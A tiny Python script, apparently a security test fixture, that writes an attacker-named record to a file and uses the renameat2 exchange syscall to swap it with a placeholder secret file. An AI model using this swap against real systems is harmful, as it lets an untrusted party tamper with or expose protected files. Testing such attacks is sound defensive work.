import ctypes

_EXCHANGE, _AT_FDCWD = 2, -100
with open("mine.csv", "w") as file:
    file.write("mallory,16\n")
ctypes.CDLL(None).renameat2(_AT_FDCWD, b"mine.csv", _AT_FDCWD, b"@SECRET_FILE@", _EXCHANGE)
